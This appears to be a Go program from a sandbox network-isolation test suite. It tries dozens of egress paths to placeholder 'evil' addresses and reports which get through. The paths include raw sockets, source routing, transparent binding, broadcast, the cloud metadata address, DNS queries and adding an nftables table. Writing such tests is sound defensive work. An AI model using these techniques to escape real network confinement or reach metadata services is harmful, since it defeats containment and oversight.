package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// Addresses of the world in which ways are tried. The peer is a neighbour on the
// interface eth0, the gateway is the host.
var (
	evil4    = netip.MustParseAddr("203.0.113.9")
	evil6    = netip.MustParseAddr("2001:db8:bad::9")
	gateway4 = netip.MustParseAddr("10.77.0.1")
	peer4    = netip.MustParseAddr("10.77.0.3")
	peer6    = netip.MustParseAddr("fd77::3")
)

// A wayOut sends something by a socket. Each has a port of its own, by which it is
// known on the wire.
type wayOut struct {
	name string
	try  func(port uint16) error
}

// ways are those that need an interface; see package main's out for the others.
func ways() []wayOut {
	const stream, packets = unix.SOCK_STREAM, unix.SOCK_DGRAM
	to := func(addr netip.Addr, kind, protocol int, prepare ...option) func(uint16) error {
		return func(port uint16) error { return sendTo(netip.AddrPortFrom(addr, port), kind, protocol, 0, prepare) }
	}
	any4, any6 := netip.MustParseAddr("198.51.100.77"), netip.MustParseAddr("2001:db8:bad::77")
	return []wayOut{
		{"tcp4", to(evil4, stream, 0)},
		{"tcp6", to(evil6, stream, 0)},
		{"udp4", to(evil4, packets, 0)},
		{"udp6", to(evil6, packets, 0)},
		{"gateway", to(gateway4, stream, 0)},
		{"metadata", to(netip.MustParseAddr("169.254.169.254"), stream, 0)},
		{"device-tcp", to(evil4, stream, 0, byDevice)},
		{"device-tcp6", to(evil6, stream, 0, byDevice)},
		{"device-udp", to(evil4, packets, 0, byDevice)},
		{"device-fake", to(netip.MustParseAddr("198.18.0.7"), stream, 0, byDevice)},
		{"device-loopback", to(netip.MustParseAddr("127.0.0.1"), stream, 0, byDevice)},
		{"device-gateway", to(gateway4, stream, 0, byDevice)},
		{"fast-open", func(port uint16) error {
			return sendTo(netip.AddrPortFrom(evil4, port), stream, 0, unix.MSG_FASTOPEN, nil)
		}},
		{"mptcp", to(evil4, stream, unix.IPPROTO_MPTCP)},
		{"sctp", to(evil4, stream, unix.IPPROTO_SCTP)},
		{"udplite", to(evil4, packets, unix.IPPROTO_UDPLITE)},
		{"multicast4", to(netip.MustParseAddr("239.255.7.7"), packets, 0, byDevice)},
		{"multicast6", to(netip.MustParseAddr("ff05::7"), packets, 0, byDevice)},
		{"broadcast", to(netip.MustParseAddr("10.77.0.255"), packets, 0, flag(unix.SOL_SOCKET, unix.SO_BROADCAST))},
		{"all-ones", to(netip.MustParseAddr("255.255.255.255"), packets, 0, byDevice, flag(unix.SOL_SOCKET, unix.SO_BROADCAST))},
		{"link-local", to(netip.MustParseAddr("fe80::1"), stream, 0, byDevice)},
		{"free-bind", to(evil6, packets, 0, flag(unix.IPPROTO_IPV6, unix.IPV6_FREEBIND), bindTo(any6))},
		{"transparent", to(evil4, packets, 0, flag(unix.IPPROTO_IP, unix.IP_TRANSPARENT), bindTo(any4))},
		{"mark", to(evil4, packets, 0, value(unix.SOL_SOCKET, unix.SO_MARK, 0x65676772))},
		{"priority", to(evil4, packets, 0, value(unix.SOL_SOCKET, unix.SO_PRIORITY, 6))},
		{"source-route", to(peer4, packets, 0, sourceRoute)},
		{"raw", raw4},
		{"ping", ping},
		{"peer4", to(peer4, packets, 0)},
		{"peer6", to(peer6, packets, 0)},
	}
}

// firstPort is that of the first way.
const firstPort = 7000

// tryWays tries all; what they get to hear is nothing, so it does not wait.
func tryWays() {
	for i, w := range ways() {
		err := w.try(uint16(firstPort + i))
		if errors.Is(err, unix.EINPROGRESS) || errors.Is(err, unix.EAGAIN) {
			err = nil
		}
		report(w.name, err)
	}
}

// An option prepares a socket that is to send to an address.
type option func(fd int, to netip.AddrPort) error

func byDevice(fd int, _ netip.AddrPort) error { return unix.BindToDevice(fd, "eth0") }

func flag(level, name int) option { return value(level, name, 1) }

func value(level, name, number int) option {
	return func(fd int, _ netip.AddrPort) error { return unix.SetsockoptInt(fd, level, name, number) }
}

func bindTo(addr netip.Addr) option {
	return func(fd int, _ netip.AddrPort) error { return unix.Bind(fd, sockaddrOf(netip.AddrPortFrom(addr, 0))) }
}

// sourceRoute asks routers to pass what goes to a peer on to somebody else; see
// LSRR in RFC 791.
func sourceRoute(fd int, _ netip.AddrPort) error {
	const loose, length, pointer, end = 131, 7, 4, 0
	hop := evil4.As4()
	return unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, string([]byte{loose, length, pointer, hop[0], hop[1], hop[2], hop[3], end}))
}

func sockaddrOf(a netip.AddrPort) unix.Sockaddr {
	if a.Addr().Is4() {
		return &unix.SockaddrInet4{Port: int(a.Port()), Addr: a.Addr().As4()}
	}
	six := &unix.SockaddrInet6{Port: int(a.Port()), Addr: a.Addr().As16()}
	if a.Addr().IsLinkLocalUnicast() || a.Addr().IsMulticast() {
		if device, err := net.InterfaceByName("eth0"); err == nil {
			six.ZoneId = uint32(device.Index)
		}
	}
	return six
}

// sendTo sends the first packet to an address, a SYN or a datagram.
func sendTo(to netip.AddrPort, kind, protocol, flags int, prepare []option) error {
	family := unix.AF_INET
	if to.Addr().Is6() {
		family = unix.AF_INET6
	}
	fd, err := unix.Socket(family, kind|unix.SOCK_NONBLOCK, protocol)
	if err != nil {
		return err
	}
	for _, p := range prepare {
		if err := p(fd, to); err != nil {
			return err
		}
	}
	// The socket stays open until this program ends: a SYN of one that is closed
	// is not sent again.
	if kind == unix.SOCK_STREAM && flags == 0 {
		return unix.Connect(fd, sockaddrOf(to))
	}
	return unix.Sendto(fd, []byte("out"), flags, sockaddrOf(to))
}

// raw4 sends a UDP packet that it has written itself, header and all.
func raw4(port uint16) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return err
	}
	const size, ttl = 20 + 8, 64
	to := evil4.As4()
	packet := []byte{4<<4 | 5, 0, 0, size, 0, 0, 0, 0, ttl, unix.IPPROTO_UDP, 0, 0, 10, 77, 0, 2, to[0], to[1], to[2], to[3]}
	packet = binary.BigEndian.AppendUint16(packet, port)
	packet = binary.BigEndian.AppendUint16(packet, port)
	packet = append(packet, 0, 8, 0, 0)
	return unix.Sendto(fd, packet, 0, sockaddrOf(netip.AddrPortFrom(evil4, port)))
}

// ping asks for an echo, as who is in ping_group_range may without a capability.
func ping(uint16) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP)
	if err != nil {
		return err
	}
	const echo = 8
	return unix.Sendto(fd, []byte{echo, 0, 0, 0, 0, 0, 0, 0}, 0, sockaddrOf(netip.AddrPortFrom(evil4, 0)))
}

// askNames asks a name server for names, "TYPE:NAME" each, and says how many answers
// came. What they are is seen elsewhere.
func askNames(server string, questions []string) {
	conn, err := net.Dial("udp", server)
	if err != nil {
		fail(err)
	}
	answers := 0
	for i, question := range questions {
		kind, name, _ := strings.Cut(question, ":")
		number, err := strconv.ParseUint(kind, 10, 16)
		if err != nil {
			fail(err)
		}
		message := binary.BigEndian.AppendUint16(nil, uint16(i))
		message = append(message, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0)
		for label := range strings.SplitSeq(name, ".") {
			message = append(append(message, byte(len(label))), label...)
		}
		message = binary.BigEndian.AppendUint16(append(message, 0), uint16(number))
		if _, err := conn.Write(append(message, 0, 1)); err != nil {
			fail(err)
		}
		if err := conn.SetReadDeadline(time.Now().Add(2 * patience)); err != nil {
			fail(err)
		}
		if _, err := conn.Read(make([]byte, 4096)); err == nil {
			answers++
		}
	}
	fmt.Printf("%d answers\n", answers)
}

// makeTable adds an nftables table, as whoever can flush all could. It says so by
// three netlink messages: the beginning of a batch, the table, the end.
func makeTable(name string) error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER)
	if err != nil {
		return err
	}
	const inet, nameAttribute, newTable = 1, 1, unix.NFNL_SUBSYS_NFTABLES<<8 | unix.NFT_MSG_NEWTABLE
	message := func(kind, flags uint16, family byte, subsystem uint16, attributes []byte) []byte {
		body := append([]byte{family, 0}, binary.BigEndian.AppendUint16(nil, subsystem)...)
		body = append(body, attributes...)
		m := binary.NativeEndian.AppendUint32(nil, uint32(unix.SizeofNlMsghdr+len(body)))
		m = binary.NativeEndian.AppendUint16(m, kind)
		m = binary.NativeEndian.AppendUint16(m, unix.NLM_F_REQUEST|flags)
		return append(append(m, make([]byte, 8)...), body...)
	}
	text := append([]byte(name), 0)
	attribute := binary.NativeEndian.AppendUint16(nil, uint16(4+len(text)))
	attribute = append(binary.NativeEndian.AppendUint16(attribute, nameAttribute), text...)
	attribute = append(attribute, make([]byte, -len(attribute)&3)...)
	batch := message(unix.NFNL_MSG_BATCH_BEGIN, 0, 0, unix.NFNL_SUBSYS_NFTABLES, nil)
	batch = append(batch, message(newTable, unix.NLM_F_CREATE|unix.NLM_F_ACK, inet, 0, attribute)...)
	batch = append(batch, message(unix.NFNL_MSG_BATCH_END, 0, 0, unix.NFNL_SUBSYS_NFTABLES, nil)...)
	if err := unix.Sendto(fd, batch, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: int64(patience / time.Second)}); err != nil {
		return err
	}
	answer := make([]byte, os.Getpagesize())
	n, _, err := unix.Recvfrom(fd, answer, 0)
	if err != nil {
		return err
	}
	if n < unix.SizeofNlMsghdr+4 || binary.NativeEndian.Uint16(answer[4:]) != unix.NLMSG_ERROR {
		return fmt.Errorf("answer of %d bytes", n)
	}
	if code := int32(binary.NativeEndian.Uint32(answer[unix.SizeofNlMsghdr:])); code != 0 {
		return unix.Errno(-code)
	}
	return nil
}
